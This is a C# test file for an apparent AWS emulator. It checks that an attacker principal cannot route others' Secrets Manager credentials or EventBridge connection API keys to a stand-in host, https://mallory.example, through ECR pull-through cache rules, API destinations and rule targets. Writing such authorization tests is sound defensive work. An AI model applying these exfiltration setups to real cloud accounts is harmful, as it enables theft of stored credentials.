using System.Net;
using Slipway.Tests.Events;
using Slipway.Tests.Iam;
using Slipway.Tests.Support;

namespace Slipway.Tests.Attacks;

/// <summary>Secrets that the server sends on somebody's behalf, and those who would have them sent to themselves.</summary>
public sealed class SecretsOfOthersTests : IAsyncDisposable
{
    private const string Prefix = "arn:aws:events:us-east-1:000000000000:";

    private readonly SlipwayApp app = new(new() { ["SLIPWAY_ALLOWED_HOSTS"] = "127.0.0.1" });
    private readonly WebHook hook = new();

    public async ValueTask DisposeAsync()
    {
        await app.DisposeAsync();
        await hook.DisposeAsync();
    }

    [Fact]
    public async Task Who_may_not_read_a_secret_can_have_it_sent_to_no_registry()
    {
        var secret = await app.CreateSecret("ecr-pullthroughcache/hub", """{"username":"u","accessToken":"t0ken"}""");
        var mallory = await Attacker.EnterAsync(app, null, Attacker.Statement("Allow", "ecr:*", "*"));
        var rule = $$"""{"ecrRepositoryPrefix":"mine","upstreamRegistryUrl":"https://mallory.example","credentialArn":"{{secret}}"}""";
        Refused(await app.Ecr("CreatePullThroughCacheRule", rule, mallory.Key, SlipwayApp.Region), $"secretsmanager:GetSecretValue on resource: {secret}");
        (await app.Ecr("CreatePullThroughCacheRule", """{"ecrRepositoryPrefix":"mine","upstreamRegistryUrl":"https://mallory.example"}""", mallory.Key, SlipwayApp.Region)).Expect(HttpStatusCode.OK);
        Refused(
            await app.Ecr("UpdatePullThroughCacheRule", $$"""{"ecrRepositoryPrefix":"mine","credentialArn":"{{secret}}"}""", mallory.Key, SlipwayApp.Region),
            $"secretsmanager:GetSecretValue on resource: {secret}");

        await app.PutInline("User", mallory.Name, "reads", Attacker.Document(Attacker.Statement("Allow", "secretsmanager:GetSecretValue", secret)));
        (await app.Ecr("UpdatePullThroughCacheRule", $$"""{"ecrRepositoryPrefix":"mine","credentialArn":"{{secret}}"}""", mallory.Key, SlipwayApp.Region)).Expect(HttpStatusCode.OK);
    }

    [Fact]
    public async Task What_a_connection_knows_goes_to_nobodys_own_web_hook()
    {
        const string Auth = """ "AuthorizationType":"API_KEY","AuthParameters":{"ApiKeyAuthParameters":{"ApiKeyName":"x-key","ApiKeyValue":"s3cret"}}""";
        var theirs = (await app.Events("CreateConnection", $$"""{"Name":"theirs",{{Auth}}}""")).Expect(HttpStatusCode.OK)["ConnectionArn"].GetString();
        var mallory = await Attacker.EnterAsync(
            app, null, Attacker.Statement("Allow", "events:*", $"{Prefix}api-destination/*"), Attacker.Statement("Allow", "events:*", $"{Prefix}connection/mine"));
        var mine = (await Try(mallory, "CreateConnection", $$"""{"Name":"mine",{{Auth}}}""")).Expect(HttpStatusCode.OK)["ConnectionArn"].GetString();
        string Destination(string? connection) => $$"""{"Name":"out","ConnectionArn":"{{connection}}","InvocationEndpoint":"https://mallory.example","HttpMethod":"POST"}""";

        Refused(await Try(mallory, "CreateApiDestination", Destination(theirs)), $"events:CreateApiDestination on resource: {Prefix}connection/theirs");
        (await Try(mallory, "CreateApiDestination", Destination(mine))).Expect(HttpStatusCode.OK);
        Refused(await Try(mallory, "UpdateApiDestination", $$"""{"Name":"out","ConnectionArn":"{{theirs}}"}"""), $"events:UpdateApiDestination on resource: {Prefix}connection/theirs");
    }

    [Fact]
    public async Task Who_may_not_call_a_web_hook_can_have_no_rule_call_it()
    {
        await hook.Follow(app, """{"source":["my.app"]}""", "");
        var destination = (await app.Events("DescribeApiDestination", """{"Name":"hook"}"""))["ApiDestinationArn"].GetString();
        (await app.Events("CreateEventBus", """{"Name":"theirs"}""")).Expect(HttpStatusCode.OK);
        var mallory = await Attacker.EnterAsync(app, null, Attacker.Statement("Allow", "events:Put*", $"{Prefix}rule/*"));
        (await Try(mallory, "PutRule", """{"Name":"mine","EventPattern":"{\"source\":[\"aws.ecr\"]}"}""")).Expect(HttpStatusCode.OK);
        string Target(string? arn) => $$"""{"Rule":"mine","Targets":[{"Id":"one","Arn":"{{arn}}","Input":"{\"delete\":true}"}]}""";

        Refused(await Try(mallory, "PutTargets", Target(destination)), $"events:InvokeApiDestination on resource: {destination}");
        Refused(await Try(mallory, "PutTargets", Target($"{Prefix}event-bus/theirs")), $"events:PutEvents on resource: {Prefix}event-bus/theirs");
        await app.PutInline("User", mallory.Name, "calls", Attacker.Document(Attacker.Statement("Allow", "events:InvokeApiDestination", $"{Prefix}api-destination/hook/*")));
        (await Try(mallory, "PutTargets", Target(destination))).Expect(HttpStatusCode.OK);
    }

    private static void Refused(AwsAnswer answer, string what)
    {
        Assert.True(answer.Error is "AccessDeniedException", answer.Body);
        Assert.Contains($"is not authorized to perform: {what}", answer.Message, StringComparison.Ordinal);
    }

    private Task<AwsAnswer> Try(Attacker mallory, string operation, string json) => app.Json("events", $"AWSEvents.{operation}", json, mallory.Key, SlipwayApp.Region);
}
